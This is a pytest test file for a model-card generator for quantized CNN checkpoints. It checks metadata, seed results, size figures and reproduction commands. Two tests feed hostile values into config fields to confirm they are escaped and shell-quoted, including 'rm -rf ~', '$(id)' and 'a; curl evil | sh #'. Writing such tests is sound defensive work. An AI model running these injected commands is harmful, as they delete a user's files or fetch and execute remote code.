"""The model card: its metadata and text, and that its commands work."""

from __future__ import annotations

import functools
import re
import shlex
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import reproduce
import yaml
from harness.entries import Entry, load_entries, select_entries
from huggingface_hub import ModelCard, ModelCardData
from PIL import Image

import cnvzoo
from cnvzoo.checkpoints.card import render_card
from cnvzoo.checkpoints.folder import read_config, write_config
from cnvzoo.checkpoints.format import CheckpointConfig, IntegerResult, SeedResult

HUB = Path(__file__).resolve().parents[2] / "hub"
RECIPE = {"name": "cifar10_quant_cnv_w4a4", "model": "quant_cnv", "epochs": 20, "optimizer": {"lr": 0.05}, "seed": 0}


@pytest.fixture
def folder(tmp_path: Path, make_checkpoint: Callable[..., Path]) -> Path:
    """A quantized checkpoint with a recipe, and the results of three seeds."""
    folder = make_checkpoint(tmp_path / "hub", "quant_cnv", "cifar10", w_bits=4, a_bits=4)
    config = read_config(folder)
    counts = (9120, 9140, 9190)
    results = [SeedResult(seed=k, correct=n, total=10_000, weights_sha256=str(k) * 64) for k, n in enumerate(counts)]
    changes = {"correct": 9120, "total": 10_000, "results": results, "weights_sha256": "0" * 64, "recipe": RECIPE}
    changes |= {"device": {"kind": "cpu", "threads": 2}, "versions": {"torch": "2.15.0"}, "commit": "abc123"}
    write_config(folder, CheckpointConfig(**dict(config) | changes))
    cnvzoo.write_card(folder)
    return folder


def block(card: str, language: str) -> str:
    (found,) = re.findall(rf"^```{language}\n(.*?)^```$", card, re.MULTILINE | re.DOTALL)
    return found


def test_the_metadata_is_what_the_hub_indexes(folder: Path) -> None:
    data = ModelCard((folder / "README.md").read_text()).data
    assert isinstance(data, ModelCardData)
    assert data.library_name == "cnvzoo"
    assert data.license == "apache-2.0"
    assert data.pipeline_tag == "image-classification"
    assert data.datasets == ["uoft-cs/cifar10"]
    assert data.metrics == ["accuracy"]
    assert {"image-classification", "pytorch", "quant_cnv", "quantization", "w4a4"} <= set(data.tags or [])
    assert data.model_name == "quant_cnv_w4a4.cifar10"
    (result,) = data.eval_results or []
    assert (result.task_type, result.dataset_type, result.dataset_name) == (
        "image-classification", "uoft-cs/cifar10", "CIFAR-10",
    )  # fmt: skip
    assert (result.dataset_split, result.metric_type, result.metric_value) == ("test", "accuracy", 0.9120)


def test_the_result_of_every_seed(folder: Path) -> None:
    card = (folder / "README.md").read_text()
    assert "91.20 % top-1 on the test set of CIFAR-10: 9,120 of 10,000 images" in card
    assert (
        "Only the weights of seed 0 are published. The results of the other seeds are in the records of their runs "
        "(`benchmarks/results/cifar10_quant_cnv_w4a4/` of cnvzoo), with the sha256 of their weights." in card
    )
    for row in ("| 0 | 91.20 | 9,120 of", "| 1 | 91.40 | 9,140 of", "| 2 | 91.90 | 9,190 of"):
        assert row in card
    assert "Mean of 3 seeds: 91.50 %, standard deviation 0.36" in card  # by hand: sqrt((.09 + .01 + .16) / 2)


def test_preprocessing_recipe_size_and_limits(folder: Path) -> None:
    card = (folder / "README.md").read_text()
    assert "Images of 32x32 pixels, RGB, scaled to [0, 1]." in card
    assert "airplane, automobile, bird, cat" in card
    assert yaml.safe_load(block(card, "yaml")) == RECIPE
    # multiply-accumulates by hand: six convolutions at 30, 28, 12, 10, 3 and 1 pixels a side, three linear layers
    convolutions = 3 * 64 * 900 + 64 * 64 * 784 + 64 * 128 * 144 + 128 * 128 * 100 + 128 * 256 * 9 + 256 * 256
    assert f"| {9 * convolutions + 256 * 512 + 512 * 512 + 512 * 10:,} | w4a4 |" in card
    assert f"{(folder / 'model.safetensors').stat().st_size:,} bytes" in card
    assert "Weights of 4 bits (first layer 8) and activations of 4 bits" in card
    assert "- kind cpu, threads 2\n- torch 2.15.0" in card
    assert "Integer hardware may round differently" in card


def test_the_result_of_the_integer_graph(folder: Path) -> None:
    assert "ONNX" not in (folder / "README.md").read_text()  # nothing was measured yet
    result = IntegerResult(correct=9118, agreeing=9995, differing=3, reachable=58_297_860, bytes=810_000)
    write_config(folder, read_config(folder).model_copy(update={"integer": result}))
    cnvzoo.write_card(folder)
    card = (folder / "README.md").read_text()
    assert "| 91.18 | 9,118 of 10,000 | 9,995 | 3 of 58,297,860 |" in card
    assert "`cnvzoo export quant_cnv_w4a4.cifar10 -o model.onnx` writes an ONNX file" in card
    assert "810,000 bytes" in card


def test_a_float_model_of_grey_images(tmp_path: Path, make_checkpoint: Callable[..., Path]) -> None:
    folder = make_checkpoint(tmp_path / "hub", "cnv", "mnist")
    cnvzoo.write_card(folder)
    card = (folder / "README.md").read_text()
    assert (
        "Images of 28x28 pixels, grey, padded with black to 32x32, scaled to [0, 1], then mean 0.1307 subtracted"
        in card
    )
    assert "Mean of one seed: 10.00 %. Each run read the test set once" in card
    assert "other seeds" not in card
    assert "quantiz" not in card
    assert "## Recipe" not in card  # none was recorded


def test_the_same_checkpoint_has_the_same_card(folder: Path) -> None:
    path = folder / "README.md"
    before, moment = path.read_bytes(), path.stat().st_mtime_ns
    assert cnvzoo.write_card(folder) is False
    assert path.stat().st_mtime_ns == moment
    config = read_config(folder)
    cards = {render_card(config, "A net.", 10, 20) for _ in range(2)}
    assert len(cards) == 1
    path.write_text("another")
    assert cnvzoo.write_card(folder) is True
    assert path.read_bytes() == before


def test_the_snippet_runs(
    tmp_path: Path, make_checkpoint: Callable[..., Path], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
) -> None:
    folder = make_checkpoint(tmp_path / "hub", "cnv", "mnist")
    cnvzoo.write_card(folder)
    monkeypatch.setenv("CNVZOO_HUB", str(tmp_path / "hub"))
    monkeypatch.chdir(tmp_path)
    Image.new("RGB", (40, 30), "teal").save("photo.png")
    exec(block((folder / "README.md").read_text(), "python"), {})
    assert re.fullmatch(r"(\d: \d+\.\d%\n){5}", capsys.readouterr().out)


def card_with(folder: Path, **changes: Any) -> str:
    """The card of the checkpoint with other facts, which are validated as those of a file."""
    write_config(folder, CheckpointConfig(**dict(read_config(folder)) | changes))
    cnvzoo.write_card(folder)
    return (folder / "README.md").read_text()


ENTRY = "--table all --entry cifar10_quant_cnv_w4a4"
PINNED = {"python": "3.11.7", "torch": "2.14.1+cu130", "cnvzoo": "0.1.0", "numpy": "2.4.6", "brevitas": "0.13.4"}


@pytest.mark.parametrize(
    ("device", "command"),
    [
        (
            {"kind": "cpu", "threads": 1},
            f"OMP_NUM_THREADS=1 python benchmarks/reproduce.py {ENTRY} --device cpu --seeds 0 --retrain",
        ),
        (
            {"kind": "cpu", "threads": 2},
            f"OMP_NUM_THREADS=2 python benchmarks/reproduce.py {ENTRY} --device cpu --seeds 0 --retrain --threads 2",
        ),
        (
            {"kind": "cuda", "name": "A GPU"},
            f"python benchmarks/reproduce.py {ENTRY} --device cuda --seeds 0 --retrain",
        ),
    ],
    ids=["one thread", "two threads", "a GPU"],
)
def test_the_commands_to_reproduce_it_are_complete(
    folder: Path, device: dict[str, Any], command: str, capsys: pytest.CaptureFixture
) -> None:
    versions = PINNED | ({"cuda": "13.0", "cudnn": "91900"} if device["kind"] == "cuda" else {})
    card = card_with(folder, device=device, versions=versions, commit="7e6117d" * 5)
    checkout, install, train = block(card, "sh").splitlines()
    assert checkout == "git checkout " + "7e6117d" * 5
    pins = "torch==2.14.1 numpy==2.4.6 brevitas==0.13.4"
    assert install == f"pip install {pins} $(ls -d ./runtime 2>/dev/null) --editable ."
    assert train == command
    words = shlex.split(train.partition("reproduce.py")[2])
    assert reproduce.main([*words, "--list"]) == 0
    assert "cifar10_quant_cnv_w4a4" in capsys.readouterr().out
    listed = ", ".join(f"{name} {version}" for name, version in versions.items())
    assert f"- {listed}\n" in card  # what pip cannot install is there in words


def test_a_commit_that_cannot_be_checked_out(folder: Path) -> None:
    card = card_with(folder, commit="abc123+")
    assert "The run used commit `abc123` with uncommitted changes. In a checkout that has this checkpoint:" in card
    assert block(card, "sh").startswith("pip install")  # the commit alone may have other weights to start from
    assert "again on the same machine" not in card
    card = card_with(folder, commit=None)
    assert "checkout" not in block(card, "sh")
    assert "(the commit was not recorded)" in card


def test_an_entry_without_a_table_has_no_command(folder: Path) -> None:
    for changes in ({"dataset": "svhn"}, {"recipe": {"epochs": 3}}):
        card = card_with(folder, **{"dataset": "cifar10", "recipe": RECIPE} | changes)
        assert "This run is in no table of cnvzoo" in card
        assert "```sh" not in card


def test_scored_recipes_and_arithmetic(folder: Path) -> None:
    card = (folder / "README.md").read_text()
    assert "recipes of this entry" not in card
    assert "arithmetic" not in card
    results = [result.model_copy(update={"numerics": 2}) for result in read_config(folder).results]
    card = card_with(folder, recipes_scored=3, numerics=2, results=results)
    assert "Number of recipes of this entry that were scored on the test set: 3." in card
    assert "\n- arithmetic version 2 (docs/numerics.md)\n" in card.partition("## Reproduce")[2]
    assert "different versions" not in card
    results[2] = results[2].model_copy(update={"numerics": None})
    card = card_with(folder, recipes_scored=1, results=results)
    assert "Number of recipes of this entry that were scored on the test set: 1." in card
    versions = "different versions of the training arithmetic: 2 (seed 0), 2 (seed 1), not recorded (seed 2)."
    assert versions in card


EVIL = "x`; rm -rf ~ | <b> $(id) [a](https://evil) *_"


def rendered(card: str) -> tuple[str, list[tuple[str, str]]]:
    """The text of a card outside of code, and its blocks of code with their languages, as CommonMark has them."""
    text, blocks, fence = [], [], ""
    for line in card.splitlines():
        if fence:
            if re.fullmatch(rf" {{0,3}}{fence}`*\s*", line):
                fence = ""
            else:
                blocks[-1] = (blocks[-1][0], blocks[-1][1] + line + "\n")
        elif opening := re.fullmatch(r" {0,3}(```+)([^`]*)", line):
            fence = opening[1]
            blocks.append((opening[2], ""))
        else:
            text.append(line)
    assert not fence
    return "\n".join(text), blocks


def test_text_of_a_config_is_escaped_fenced_and_quoted(folder: Path) -> None:
    classes = [EVIL, "https://evil.example", "www.evil.example", "|a|", *"bcdefg"]
    # folded at 110 columns, a plain text starts a line with its backticks; CommonMark lets those end a block
    recipe = RECIPE | {"note": f"{'word ' * 20}``` # Another section", "list": ["````", "``` sh"], "date": "2020-01-01"}
    device = {"kind": "cpu", "threads": 2, "name": EVIL}
    card = card_with(folder, classes=classes, recipe=recipe, device=device)
    text, blocks = rendered(card)
    assert [language for language, _ in blocks] == ["python", "yaml", "sh"]
    assert yaml.safe_load(blocks[1][1]) == recipe
    assert shlex.split(blocks[2][1].splitlines()[-1])[-2:] == ["--threads", "2"]
    escaped = r"x\`; rm -rf \~ \| \<b\> \$(id) \[a\](https\://evil) \*\_"
    assert (
        f"Classes, in the order of the outputs: {escaped}, https\\://evil.example, www\\.evil.example, \\|a\\|, b"
        in text
    )
    assert f"- kind cpu, threads 2, name {escaped}\n" in text
    assert EVIL not in text
    assert "\n# Another section" not in text


def test_commands_are_quoted_even_without_the_bounds_of_configs(folder: Path) -> None:
    # as if the bounds on reading were not there
    changes = {
        "recipe": RECIPE | {"name": "a; curl evil | sh #"}, "commit": "`;id`", "dataset": "cifar10",
        "versions": {"torch": "1; id", "evil": "2"}, "device": {"kind": "cpu", "threads": "1; id"},
    }  # fmt: skip
    config = read_config(folder).model_copy(update=changes)
    _, blocks = rendered(render_card(config, "A net.", 10, 20))
    checkout, install, train = map(shlex.split, blocks[-1][1].splitlines())
    assert checkout == ["git", "checkout", "`;id`"]
    assert install[:3] == ["pip", "install", "torch==1; id"]
    assert train[0] == "OMP_NUM_THREADS=1; id"
    assert train[train.index("--entry") + 1] == "a; curl evil | sh #"


@functools.cache
def entries_of_this_repository() -> dict[str, Entry]:
    return load_entries(HUB.parent / "benchmarks" / "configs")


@pytest.mark.parametrize("published", sorted(HUB.glob("*/config.json")), ids=lambda path: path.parent.name)
def test_the_published_cards_are_those_of_their_configs(published: Path) -> None:
    config = read_config(published.parent)
    info = cnvzoo.model_info(**config.model, input_size=config.preprocessing["size"])
    card = render_card(config, info.summary, info.parameters, info.macs)
    remedy = "run: python benchmarks/reproduce.py --table all --time-limit 0"
    assert (published.parent / "README.md").read_text(encoding="utf-8") == card, remedy
    *_, command = block(card, "sh").splitlines()
    selected = reproduce._parser().parse_args(shlex.split(command.partition("reproduce.py")[2]))
    entries = select_entries(entries_of_this_repository(), selected.table, selected.entry)
    assert [entry.name for entry in entries] == [config.recipe["name"]]
